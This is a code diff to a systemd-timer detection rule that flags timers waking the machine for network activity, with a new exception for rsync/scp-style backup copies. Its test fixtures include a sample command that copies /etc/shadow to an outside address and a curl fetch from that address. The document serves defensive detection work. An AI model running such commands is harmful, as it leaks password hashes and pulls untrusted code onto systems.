@@ -1,4 +1,4 @@
-import type { BehaviourKind } from "../programs/program.ts";
+import type { Behaviour, BehaviourKind } from "../programs/program.ts";
 import { value } from "../units/unit.ts";
 import { evidenceAt } from "./evidence.ts";
 import { shipped, timed } from "./example-host.ts";
@@ -12,6 +12,11 @@ const NETWORK: ReadonlySet<BehaviourKind> = new Set([
   "reverse-shell",
   "exfiltrates",
 ]);
+
+/** A copy to or from another host, as backups make them. */
+function isCopy({ confidence, detail }: Behaviour): boolean {
+  return confidence === "low" && /^(rsync|rclone|scp|sftp)$/.test(detail.program ?? "");
+}
 
 export const wakesMachineForNetwork: ActivationRule = {
   id: "wakes-machine-for-network",
@@ -37,7 +42,7 @@ export const wakesMachineForNetwork: ActivationRule = {
     )
       return;
     const setting = value(activation.record.timer.unit, "Timer", "WakeSystem");
-    const [first] = behavioursOfKind(activation, NETWORK);
+    const first = [...behavioursOfKind(activation, NETWORK)].find(({ behaviour }) => !isCopy(behaviour));
     if (setting === null || first === undefined) return;
     yield {
       says: `${activation.unit} wakes the machine, and then: ${first.behaviour.says}`,
@@ -46,9 +51,13 @@ export const wakesMachineForNetwork: ActivationRule = {
   },
 
   examples: {
-    fires: [timed("ExecStart=/usr/bin/curl -s http://192.0.2.7/x", {}, "OnCalendar=daily\nWakeSystem=true")],
+    fires: [
+      timed("ExecStart=/usr/bin/curl -s http://192.0.2.7/x", {}, "OnCalendar=daily\nWakeSystem=true"),
+      timed("ExecStart=/usr/bin/scp /etc/shadow 192.0.2.7:x", {}, "OnCalendar=daily\nWakeSystem=true"),
+    ],
     quiet: [
       timed("ExecStart=/usr/bin/restic backup /srv", {}, "OnCalendar=daily\nWakeSystem=true"),
+      timed("ExecStart=/usr/bin/rsync -a /srv/ nas.example.test:x", {}, "OnCalendar=daily\nWakeSystem=true"),
       timed("ExecStart=/usr/bin/curl -s http://192.0.2.7/x"),
       shipped(
         "vendor",
